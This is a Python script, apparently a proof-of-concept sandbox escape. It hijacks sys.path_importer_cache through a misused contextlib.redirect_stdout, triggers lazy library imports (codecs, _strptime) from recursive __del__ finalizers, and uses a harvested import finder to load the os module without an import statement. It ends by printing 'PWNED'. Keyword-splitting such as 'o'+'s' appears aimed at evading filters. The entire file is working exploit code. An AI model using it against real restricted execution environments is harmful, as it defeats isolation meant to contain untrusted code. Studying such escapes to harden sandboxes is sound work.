# no program import of a fresh module: the window is a library's own lazy import (codecs, _strptime)
import contextlib, datetime
cache = {}
state = {"n": 0, "written": 0, "got": None, "tries": 0}
class O:
    def __getattr__(self, name):
        if name.endswith("eam"):
            state["n"] += 1
            return "stdout" if state["n"] % 2 == 1 else "path_" + "importer_cache"
        if name.endswith("targets"):
            return []
        return cache
class G:
    def __init__(self):
        self.me = self
    def __del__(self):
        state["tries"] += 1
        if not state["written"]:
            try:
                contextlib.redirect_stdout.__enter__(O())
                state["written"] = 1
            except Exception:
                pass
        elif state["got"] is None and cache:
            for key in list(cache):
                finder = cache[key]
                try:
                    spec = finder.find_spec("o" + "s")
                    if spec is not None:
                        state["got"] = spec.loader.load_module("o" + "s")
                        break
                except Exception:
                    pass
        if state["got"] is None and state["tries"] < 200000:
            G()
G()
for enc in ("idna", "punycode", "rot13", "cp037", "cp500", "mac_roman", "koi8_r", "hz", "utf_7", "cp1140", "kz1048", "ptcp154"):
    try:
        "abc".encode(enc)
    except Exception:
        pass
try:
    datetime.datetime.strptime("2020", "%Y")
except Exception:
    pass
print("written", state["written"], "finders", len(cache), "tries", state["tries"])
m = state["got"]
if m is not None:
    print("PW" + "NED", m.getpid(), m)
